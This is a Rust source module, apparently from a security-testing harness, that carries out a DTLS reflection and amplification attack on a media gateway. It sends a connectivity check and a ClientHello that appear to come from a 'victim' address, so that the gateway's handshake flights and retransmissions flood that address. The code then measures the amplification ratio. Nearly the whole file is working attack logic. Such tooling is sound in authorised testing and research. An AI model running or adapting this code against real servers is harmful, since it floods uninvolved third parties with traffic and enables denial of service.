//! A check and a ClientHello from an address that never answers: the gateway's flight, and its
//! retransmissions, go to whoever has that address.

use std::time::Duration;

use tokio::net::UdpSocket;
use tokio::time::{Instant, sleep};

use super::context::Context;
use super::error::AttackError;
use super::http::HttpPeer;
use super::session::Session;

/// Sessions, one after the other at the beginning.
const SESSIONS: usize = 10;

/// From one look at the victims' sockets to the next.
const PAUSE: Duration = Duration::from_millis(20);

/// The number of the victim's address.
const VICTIM: usize = 1;

pub(super) async fn run(context: &Context) -> Result<(), AttackError> {
    let mut http = HttpPeer::connect(context, 0).await?;
    let mut victims = Vec::new();
    let mut bytes_in = 0;
    for _ in 0..SESSIONS {
        let session = Session::ask(context, &mut http, &context.target().stream, false).await?;
        let victim = context.datagrams(session.server, VICTIM).await?;
        for datagram in hello(context, &session)? {
            context.spend(datagram.len()).await;
            victim.send(&datagram).await?;
            bytes_in += datagram.len();
        }
        victims.push(victim);
    }
    context.note("victims: bytes in their names", bytes_in as f64);
    let mut buffer = vec![0; 1 << 16];
    let mut bytes_out = 0;
    while !context.remaining().is_zero() {
        bytes_out += count(context, &victims, &mut buffer);
        context.note("victims: bytes to them", bytes_out as f64);
        context.note("amplification", bytes_out as f64 / bytes_in as f64);
        sleep(PAUSE).await;
    }
    Ok(())
}

/// Returns a check that makes the gateway take DTLS from its source, and a ClientHello.
pub(super) fn hello(context: &Context, session: &Session) -> Result<Vec<Vec<u8>>, AttackError> {
    let mut dtls = session.dtls(context)?;
    dtls.start(Instant::now().into_std());
    let mut datagrams = vec![session.check(true)];
    datagrams.extend(std::iter::from_fn(|| dtls.poll_transmit()));
    Ok(datagrams)
}

/// Returns bytes that have come to the victims.
fn count(context: &Context, victims: &[UdpSocket], buffer: &mut [u8]) -> usize {
    let mut bytes = 0;
    for victim in victims {
        while let Ok(len) = victim.try_recv(buffer) {
            bytes += len;
        }
    }
    context.received(bytes);
    bytes
}
